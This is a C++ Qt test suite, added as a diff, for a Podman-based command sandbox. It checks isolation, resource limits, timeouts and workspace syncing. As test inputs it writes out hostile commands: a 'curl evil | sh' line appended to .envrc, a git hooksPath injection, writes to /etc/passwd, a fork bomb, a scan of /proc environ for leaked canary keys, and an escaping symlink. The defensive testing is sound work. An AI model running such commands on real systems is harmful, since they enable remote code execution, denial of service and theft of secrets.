@@ -1,0 +1,527 @@
+#include "sandbox/containersandbox.h"
+
+#include <QDir>
+#include <QElapsedTimer>
+#include <QFile>
+#include <QProcess>
+#include <QTemporaryDir>
+#include <QtTest>
+
+#include <thread>
+
+using namespace tandem;
+
+namespace {
+
+const QByteArray kCanary = "sk-ant-TEST-CANARY-c0n7";
+
+sandbox::ExecRequest shell(const QString &script, int timeoutMs = 20'000)
+{
+    sandbox::ExecRequest request;
+    request.argv = {QStringLiteral("bash"), QStringLiteral("-c"), script};
+    request.timeout = std::chrono::milliseconds(timeoutMs);
+    return request;
+}
+
+void writeFile(const QString &path, const QByteArray &content)
+{
+    QDir().mkpath(QFileInfo(path).absolutePath());
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::WriteOnly));
+    file.write(content);
+}
+
+QByteArray readFile(const QString &path)
+{
+    QFile file(path);
+    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
+}
+
+// The sandbox's user (uid 1000) writes the workspace from inside, as the user who owns it on a
+// desktop would; these tests run as root, so they hand their temporary workspaces over.
+void handToSandboxUser(const QString &path)
+{
+    QProcess chown;
+    chown.start(QStringLiteral("chown"), {QStringLiteral("-R"), QStringLiteral("1000:1000"), path});
+    chown.waitForFinished();
+    QCOMPARE(chown.exitCode(), 0);
+}
+
+// The container's processes are the host's too (a rootful engine): pgrep sees them.
+bool hostProcessWith(const QString &marker)
+{
+    QProcess pgrep;
+    pgrep.start(QStringLiteral("pgrep"), {QStringLiteral("-f"), marker});
+    pgrep.waitForFinished();
+    return pgrep.exitCode() == 0;
+}
+
+// What tests/support/podman_service.py wrote for this run.
+QHash<QString, QString> serviceEnvironment()
+{
+    QHash<QString, QString> values;
+    const QString dir = qEnvironmentVariable("TANDEM_PODMAN_DIR");
+    for (const QByteArray &line : readFile(dir + QStringLiteral("/service.env")).split('\n')) {
+        const qsizetype equals = line.indexOf('=');
+        if (equals > 0)
+            values.insert(QString::fromUtf8(line.left(equals)),
+                          QString::fromUtf8(line.mid(equals + 1)));
+    }
+    return values;
+}
+
+} // namespace
+
+class tst_ContainerSandbox : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void initTestCase();
+    void cleanupTestCase();
+
+    void runsInTheWorkspace();
+    void exitCodesAndStreams_data();
+    void exitCodesAndStreams();
+    void outputIsCapped();
+    void runsAsUid1000WithACleanEnvironment();
+    void rootIsReadOnly_data();
+    void rootIsReadOnly();
+    void gitAndDeniedPathsAreReadOnly();
+    void hasNoNetwork();
+    void timeoutKillsEscapingChildren();
+    void childHoldingThePipeDoesNotBlock();
+    void cancelStopsAtOnce();
+    void processCountIsCapped();
+    void forkBombEndsWithTheTimeout();
+    void memoryHogIsReportedAsMemory();
+    void stopRemovesTheContainer();
+    void leftoversOfADeadRunAreRemoved();
+    void coldContainerPerCommand();
+    void remoteEngineRoundTripsThroughArchives();
+    void unreachableEngineSaysWhatToDo();
+
+private:
+    sandbox::SandboxPolicy policy(const QString &workspace) const;
+    sandbox::ExecResult run(sandbox::Sandbox &box, const sandbox::ExecRequest &request);
+
+    QHash<QString, QString> m_service;
+    sandbox::EngineEndpoint m_unix;
+    std::unique_ptr<QTemporaryDir> m_workspace;
+    std::unique_ptr<sandbox::ContainerSandbox> m_sandbox;
+};
+
+sandbox::SandboxPolicy tst_ContainerSandbox::policy(const QString &workspace) const
+{
+    sandbox::SandboxPolicy p;
+    p.workspace = workspace;
+    p.limits.memoryBytes = qint64(256) << 20;
+    p.limits.processes = 64;
+    p.limits.diskBytes = qint64(64) << 20;
+    return p;
+}
+
+sandbox::ExecResult tst_ContainerSandbox::run(sandbox::Sandbox &box,
+                                              const sandbox::ExecRequest &request)
+{
+    auto result = box.exec(request, {});
+    if (!result) {
+        QTest::qFail(qPrintable(result.error().message), __FILE__, __LINE__);
+        return {};
+    }
+    return *result;
+}
+
+void tst_ContainerSandbox::initTestCase()
+{
+    m_service = serviceEnvironment();
+    if (!m_service.contains(QStringLiteral("TANDEM_PODMAN_SOCKET")))
+        QFAIL("no Podman service: run this test through ctest (fixture podman)");
+    auto endpoint = sandbox::EngineEndpoint::parse(m_service.value("TANDEM_PODMAN_SOCKET"));
+    QVERIFY(endpoint.has_value());
+    m_unix = *endpoint;
+
+    // Secrets the host process holds: none may be visible inside.
+    qputenv("ANTHROPIC_API_KEY", kCanary);
+    qputenv("TANDEM_GIT_TOKEN", "ghp_TESTCANARY0000000000000000000000000");
+
+    m_workspace = std::make_unique<QTemporaryDir>();
+    writeFile(m_workspace->filePath("hello.txt"), "hello from the workspace\n");
+    writeFile(m_workspace->filePath(".git/config"), "[core]\n");
+    writeFile(m_workspace->filePath(".envrc"), "export SAFE=1\n");
+    handToSandboxUser(m_workspace->path());
+
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    options.sessionId = QStringLiteral("test-session");
+    m_sandbox = std::make_unique<sandbox::ContainerSandbox>(policy(m_workspace->path()), options);
+    auto started = m_sandbox->start();
+    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));
+}
+
+void tst_ContainerSandbox::cleanupTestCase()
+{
+    if (m_sandbox)
+        m_sandbox->stop();
+}
+
+void tst_ContainerSandbox::runsInTheWorkspace()
+{
+    const auto result = run(*m_sandbox, shell("pwd; cat hello.txt; echo made > new.txt"));
+    QCOMPARE(result.exitCode, 0);
+    QCOMPARE(result.stdoutData, QByteArray("/workspace\nhello from the workspace\n"));
+    QCOMPARE(readFile(m_workspace->filePath("new.txt")), QByteArray("made\n"));
+}
+
+void tst_ContainerSandbox::exitCodesAndStreams_data()
+{
+    QTest::addColumn<QStringList>("argv");
+    QTest::addColumn<int>("exitCode");
+    QTest::addColumn<QByteArray>("out");
+    QTest::addColumn<QByteArray>("err");
+    QTest::newRow("both streams") << QStringList{"sh", "-c", "echo out; echo err >&2; exit 3"} << 3
+                                  << QByteArray("out\n") << QByteArray("err\n");
+    QTest::newRow("argv as given") << QStringList{"printf", "%s|", "a b", "$HOME", "*"} << 0
+                                   << QByteArray("a b|$HOME|*|") << QByteArray();
+    QTest::newRow("missing program") << QStringList{"no-such-program"} << 127 << QByteArray()
+                                     << QByteArray("tandem-exec: 1: no-such-program: not found\n");
+}
+
+void tst_ContainerSandbox::exitCodesAndStreams()
+{
+    QFETCH(QStringList, argv);
+    QFETCH(int, exitCode);
+    QFETCH(QByteArray, out);
+    QFETCH(QByteArray, err);
+    sandbox::ExecRequest request;
+    request.argv = argv;
+    const auto result = run(*m_sandbox, request);
+    QCOMPARE(result.exitCode, exitCode);
+    QCOMPARE(result.stdoutData, out);
+    QCOMPARE(result.stderrData, err);
+    QCOMPARE(result.limitHit, sandbox::LimitHit::None);
+}
+
+void tst_ContainerSandbox::outputIsCapped()
+{
+    auto request = shell("seq 1 300000; echo FINAL-SUMMARY-LINE; yes e | head -c 3000000 >&2");
+    request.outputCap = 100'000;
+    const auto result = run(*m_sandbox, request);
+    QVERIFY(result.stdoutTruncated);
+    QCOMPARE(result.stdoutBytes, qint64(1'988'895 + 19));
+    QVERIFY(result.stdoutData.size() < 100'100);
+    QVERIFY(result.stdoutData.startsWith("1\n2\n3\n"));
+    QVERIFY(result.stdoutData.endsWith("299999\n300000\nFINAL-SUMMARY-LINE\n"));
+    QVERIFY(result.stdoutData.contains(" bytes not shown]"));
+    QCOMPARE(result.stderrBytes, qint64(3'000'000));
+    QVERIFY(result.stderrTruncated);
+    QVERIFY(!result.stderrData.contains('1'));
+}
+
+void tst_ContainerSandbox::runsAsUid1000WithACleanEnvironment()
+{
+    const auto result =
+        run(*m_sandbox, shell("id -u; env; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; "
+                              "done 2>/dev/null"));
+    QVERIFY(result.stdoutData.startsWith("1000\n"));
+    QVERIFY(!result.stdoutData.contains("CANARY"));
+    QVERIFY(result.stdoutData.contains("HOME=/tmp/home"));
+    QVERIFY(result.stdoutData.contains("TERM=dumb"));
+    QVERIFY(!result.stdoutData.contains("TANDEM_PODMAN"));
+    QVERIFY(!result.stdoutData.contains("CONTAINERS_CONF"));
+}
+
+void tst_ContainerSandbox::rootIsReadOnly_data()
+{
+    QTest::addColumn<QString>("script");
+    QTest::newRow("root") << QStringLiteral("touch /planted");
+    QTest::newRow("usr") << QStringLiteral("touch /usr/bin/planted");
+    QTest::newRow("etc") << QStringLiteral("echo x >> /etc/passwd");
+    QTest::newRow("mount") << QStringLiteral("mount -t tmpfs none /mnt || mount");
+}
+
+void tst_ContainerSandbox::rootIsReadOnly()
+{
+    QFETCH(QString, script);
+    const auto result = run(*m_sandbox, shell(script));
+    QVERIFY2(result.exitCode != 0, result.stdoutData.constData());
+    const auto check =
+        run(*m_sandbox, shell("ls /planted /usr/bin/planted 2>/dev/null; grep -c x: /etc/passwd"));
+    QCOMPARE(check.stdoutData, QByteArray("3\n"));
+}
+
+void tst_ContainerSandbox::gitAndDeniedPathsAreReadOnly()
+{
+    const auto result = run(*m_sandbox, shell("echo '[core] hooksPath=/tmp' >> .git/config; "
+                                              "echo 'curl evil | sh' >> .envrc; "
+                                              "mkdir .git/hooks"));
+    QVERIFY(result.exitCode != 0);
+    QCOMPARE(readFile(m_workspace->filePath(".git/config")), QByteArray("[core]\n"));
+    QCOMPARE(readFile(m_workspace->filePath(".envrc")), QByteArray("export SAFE=1\n"));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(".git/hooks")));
+}
+
+void tst_ContainerSandbox::hasNoNetwork()
+{
+    const auto result =
+        run(*m_sandbox, shell("ls /sys/class/net; cat /proc/net/route | wc -l; "
+                              "python3 -c 'import socket; socket.create_connection((\"10.0.2.2\", "
+                              "9), timeout=1)' 2>&1 | tail -1"));
+    QCOMPARE(result.stdoutData.left(result.stdoutData.indexOf("\n") + 1), QByteArray("lo\n"));
+    // The routing table has its header line and nothing else: no way off the machine.
+    QVERIFY2(result.stdoutData.contains("\n1\n"), result.stdoutData.constData());
+    QVERIFY(result.stdoutData.contains("Network is unreachable"));
+}
+
+void tst_ContainerSandbox::timeoutKillsEscapingChildren()
+{
+    // Case 22 A: background, setsid, nohup and double-forked children, then an exec.
+    const QString script = QStringLiteral("echo start; ( sleep 1234.5; touch ./LATE_A ) & "
+                                          "setsid sh -c 'sleep 1234.6; touch ./LATE_B' & "
+                                          "nohup sh -c 'while :; do :; done' >/dev/null 2>&1 & "
+                                          "sh -c 'sleep 1234.7 </dev/null >/dev/null 2>&1 &'; "
+                                          "exec sleep 1234.8");
+    QElapsedTimer clock;
+    clock.start();
+    const auto result = run(*m_sandbox, shell(script, 3000));
+
+    QVERIFY(result.timedOut);
+    QCOMPARE(result.limitHit, sandbox::LimitHit::WallTime);
+    QCOMPARE(result.stdoutData, QByteArray("start\n"));
+    QVERIFY2(clock.elapsed() < 5000, qPrintable(QString::number(clock.elapsed())));
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1234")), 2000);
+    QVERIFY(!hostProcessWith(QStringLiteral("while :; do :; done")));
+
+    // Inside, only the idle first process (and its sleep) is left, with no zombie.
+    const auto left = run(*m_sandbox, shell("ps -e -o stat=,args= | grep -v 'ps -e' | grep -vc "
+                                            "'^S.*\\(sh -c\\|sleep 86400\\|bash -c\\|grep\\)'"));
+    QCOMPARE(left.stdoutData, QByteArray("0\n"));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath("LATE_A")));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath("LATE_B")));
+}
+
+void tst_ContainerSandbox::childHoldingThePipeDoesNotBlock()
+{
+    // Case 22 B: the command exits at once; a child keeps its stdout open.
+    QElapsedTimer clock;
+    clock.start();
+    const auto result = run(*m_sandbox, shell("( sleep 1233.5; echo late ) & exit 0", 10'000));
+    QVERIFY(!result.timedOut);
+    QCOMPARE(result.exitCode, 0);
+    QVERIFY2(clock.elapsed() < 3000, qPrintable(QString::number(clock.elapsed())));
+    QVERIFY(!result.stdoutData.contains("late"));
+    // Nothing of a finished command runs on.
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1233.5")), 2000);
+}
+
+void tst_ContainerSandbox::cancelStopsAtOnce()
+{
+    base::CancelToken cancel;
+    std::thread stopper([cancel] {
+        std::this_thread::sleep_for(std::chrono::milliseconds(300));
+        cancel.cancel();
+    });
+    QElapsedTimer clock;
+    clock.start();
+    auto result = m_sandbox->exec(shell("sleep 1234.9"), cancel);
+    stopper.join();
+
+    QVERIFY(result.has_value());
+    QVERIFY(result->cancelled);
+    QVERIFY(!result->timedOut);
+    QVERIFY2(clock.elapsed() < 2500, qPrintable(QString::number(clock.elapsed())));
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1234.9")), 2000);
+}
+
+void tst_ContainerSandbox::processCountIsCapped()
+{
+    // A bounded stand-in for a fork bomb: fork until refused, 300 at the most.
+    const QString forker = QStringLiteral("python3 -c 'import os, time\n"
+                                          "n = 0\n"
+                                          "for i in range(300):\n"
+                                          "    try:\n"
+                                          "        pid = os.fork()\n"
+                                          "    except OSError:\n"
+                                          "        break\n"
+                                          "    if pid == 0:\n"
+                                          "        time.sleep(1234.4)\n"
+                                          "        os._exit(0)\n"
+                                          "    n += 1\n"
+                                          "print(n)'");
+    const auto result = run(*m_sandbox, shell(forker));
+    const int forked = result.stdoutData.trimmed().toInt();
+    QVERIFY2(forked > 0 && forked < 64, result.stdoutData + result.stderrData);
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("time.sleep(1234.4)")), 2000);
+    QCOMPARE(run(*m_sandbox, shell("echo alive")).stdoutData, QByteArray("alive\n"));
+}
+
+void tst_ContainerSandbox::forkBombEndsWithTheTimeout()
+{
+    // Case 22 C. The pids limit holds it; the timeout ends it, even though no new process can
+    // start in the container to kill it.
+    QElapsedTimer clock;
+    clock.start();
+    const auto result = run(*m_sandbox, shell("f(){ f | f & }; f; sleep 1232.5", 4000));
+    QVERIFY(result.timedOut);
+    QVERIFY2(clock.elapsed() < 6500, qPrintable(QString::number(clock.elapsed())));
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1232.5")), 2000);
+    QCOMPARE(run(*m_sandbox, shell("echo alive")).stdoutData, QByteArray("alive\n"));
+}
+
+void tst_ContainerSandbox::memoryHogIsReportedAsMemory()
+{
+    // Case 22 F, scaled to the test's 256 MiB limit.
+    const auto result =
+        run(*m_sandbox, shell("python3 -c 'b = bytearray(1024**3); print(len(b))'", 20'000));
+    QCOMPARE(result.exitCode, 137);
+    QCOMPARE(result.limitHit, sandbox::LimitHit::Memory);
+    // A plain SIGKILL is not taken for one.
+    const auto killed = run(*m_sandbox, shell("kill -KILL $$"));
+    QCOMPARE(killed.exitCode, 137);
+    QCOMPARE(killed.limitHit, sandbox::LimitHit::None);
+}
+
+void tst_ContainerSandbox::stopRemovesTheContainer()
+{
+    QTemporaryDir workspace;
+    handToSandboxUser(workspace.path());
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    QVERIFY(box.start().has_value());
+    const QString id = box.containerId();
+    QVERIFY(!id.isEmpty());
+    QCOMPARE(run(box, shell("sleep 1231.5 & echo ok")).stdoutData, QByteArray("ok\n"));
+
+    box.stop();
+    sandbox::DockerEngine engine(m_unix);
+    auto state = engine.request("GET", QStringLiteral("/containers/%1/json").arg(id));
+    QVERIFY(state.has_value());
+    QCOMPARE(state->status, 404L);
+    QVERIFY(!box.exec(shell("true"), {}).has_value());
+}
+
+void tst_ContainerSandbox::leftoversOfADeadRunAreRemoved()
+{
+    // A container labelled as a Tandem's whose process is gone, as a crash leaves it.
+    QProcess gone;
+    gone.start(QStringLiteral("sh"), {QStringLiteral("-c"), QStringLiteral("echo $$")});
+    gone.waitForFinished();
+    const std::string deadPid = gone.readAllStandardOutput().trimmed().toStdString();
+    sandbox::DockerEngine engine(m_unix);
+    auto created = engine.call("POST", QStringLiteral("/containers/create"),
+                               {{"Image", "tandem-sandbox:1"},
+                                {"Cmd", {"sleep", "1230.5"}},
+                                {"Labels",
+                                 {{"org.tandem.sandbox", "1"},
+                                  {"org.tandem.host", QSysInfo::machineHostName().toStdString()},
+                                  {"org.tandem.pid", deadPid}}}});
+    QVERIFY2(created.has_value(), created ? "" : qPrintable(created.error().message));
+    const QString id = QString::fromStdString((*created)["Id"].get<std::string>());
+
+    QCOMPARE(sandbox::ContainerSandbox::removeLeftovers(engine), 1);
+    auto state = engine.request("GET", QStringLiteral("/containers/%1/json").arg(id));
+    QCOMPARE(state->status, 404L);
+    // Our own warm container is alive and stays.
+    QCOMPARE(run(*m_sandbox, shell("echo still")).stdoutData, QByteArray("still\n"));
+}
+
+void tst_ContainerSandbox::coldContainerPerCommand()
+{
+    QTemporaryDir workspace;
+    writeFile(workspace.filePath("in.txt"), "cold\n");
+    handToSandboxUser(workspace.path());
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    options.cold = true;
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    QVERIFY(box.start().has_value());
+
+    const auto result = run(box, shell("cat in.txt; echo e >&2; touch /tmp/x; exit 4"));
+    QCOMPARE(result.exitCode, 4);
+    QCOMPARE(result.stdoutData, QByteArray("cold\n"));
+    QCOMPARE(result.stderrData, QByteArray("e\n"));
+    // Nothing carries over from one command to the next.
+    QVERIFY(run(box, shell("test -e /tmp/x")).exitCode != 0);
+
+    QElapsedTimer clock;
+    clock.start();
+    const auto late = run(box, shell("setsid sleep 1229.5 & sleep 1229.6", 2000));
+    QVERIFY(late.timedOut);
+    QVERIFY2(clock.elapsed() < 4500, qPrintable(QString::number(clock.elapsed())));
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1229")), 2000);
+}
+
+void tst_ContainerSandbox::remoteEngineRoundTripsThroughArchives()
+{
+    auto tcp = sandbox::EngineEndpoint::parse(m_service.value("TANDEM_PODMAN_TCP"));
+    QVERIFY2(tcp.has_value(), "the fixture starts a TCP service too");
+    QVERIFY(tcp->isRemote());
+
+    QTemporaryDir workspace;
+    writeFile(workspace.filePath("hello.txt"), "before\n");
+    writeFile(workspace.filePath("gone.txt"), "remove me\n");
+    writeFile(workspace.filePath("sub/keep.txt"), "keep\n");
+    writeFile(workspace.filePath(".git/config"), "[core]\n");
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = *tcp;
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    auto started = box.start();
+    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));
+
+    const auto result = run(box, shell("cat hello.txt sub/keep.txt; echo after > hello.txt; "
+                                       "mkdir -p new/deep; echo fresh > new/deep/file.txt; "
+                                       "rm gone.txt; ln -s sub/keep.txt inner-link; "
+                                       "ln -s /etc/passwd outer-link; ln -s ../../x up-link"));
+    QCOMPARE(result.stdoutData, QByteArray("before\nkeep\n"));
+    QCOMPARE(readFile(workspace.filePath("hello.txt")), QByteArray("after\n"));
+    QCOMPARE(readFile(workspace.filePath("new/deep/file.txt")), QByteArray("fresh\n"));
+    QVERIFY(!QFileInfo::exists(workspace.filePath("gone.txt")));
+    QCOMPARE(QFileInfo(workspace.filePath("inner-link")).symLinkTarget(),
+             workspace.filePath("sub/keep.txt"));
+    QVERIFY(!QFileInfo(workspace.filePath("outer-link")).isSymLink());
+    QVERIFY(!QFileInfo(workspace.filePath("up-link")).isSymLink());
+    const QString refused = box.lastSyncReport().refused.join('\n');
+    QVERIFY2(refused.contains("outer-link: a link that leads outside"), qPrintable(refused));
+    QVERIFY2(refused.contains("up-link: a link that leads outside"), qPrintable(refused));
+
+    // .git is root's inside; moved aside and replaced, it still never comes back.
+    const auto git = run(box, shell("echo x >> .git/config; mv .git .git-old && mkdir .git && "
+                                    "echo '[core] hooksPath=/tmp' > .git/config"));
+    QVERIFY(git.stderrData.contains("Permission denied"));
+    QCOMPARE(readFile(workspace.filePath(".git/config")), QByteArray("[core]\n"));
+    QVERIFY(box.lastSyncReport().refused.join('\n').contains(".git/config: a denied path"));
+
+    // A change on the host reaches the next command.
+    writeFile(workspace.filePath("hello.txt"), "host edit\n");
+    QCOMPARE(run(box, shell("cat hello.txt")).stdoutData, QByteArray("host edit\n"));
+    box.stop();
+
+    // A cold container per command round-trips the same way.
+    options.cold = true;
+    sandbox::ContainerSandbox cold(policy(workspace.path()), options);
+    QVERIFY(cold.start().has_value());
+    QCOMPARE(run(cold, shell("cat hello.txt; echo cold > hello.txt")).stdoutData,
+             QByteArray("host edit\n"));
+    QCOMPARE(readFile(workspace.filePath("hello.txt")), QByteArray("cold\n"));
+    QVERIFY(QFileInfo::exists(workspace.filePath("sub/keep.txt")));
+    QVERIFY2(cold.lastSyncReport().refused.isEmpty(),
+             qPrintable(cold.lastSyncReport().refused.join('\n')));
+}
+
+void tst_ContainerSandbox::unreachableEngineSaysWhatToDo()
+{
+    QTemporaryDir workspace;
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = *sandbox::EngineEndpoint::parse(
+        QStringLiteral("unix://") + workspace.filePath(QStringLiteral("no.sock")));
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    auto started = box.start();
+    QVERIFY(!started.has_value());
+    QCOMPARE(started.error().code, QStringLiteral("engine_unreachable"));
+    QVERIFY(started.error().message.contains("podman system service"));
+    QVERIFY(!sandbox::EngineEndpoint::parse(QStringLiteral("ssh://host")).has_value());
+}
+
+QTEST_GUILESS_MAIN(tst_ContainerSandbox)
+#include "tst_containersandbox.moc"
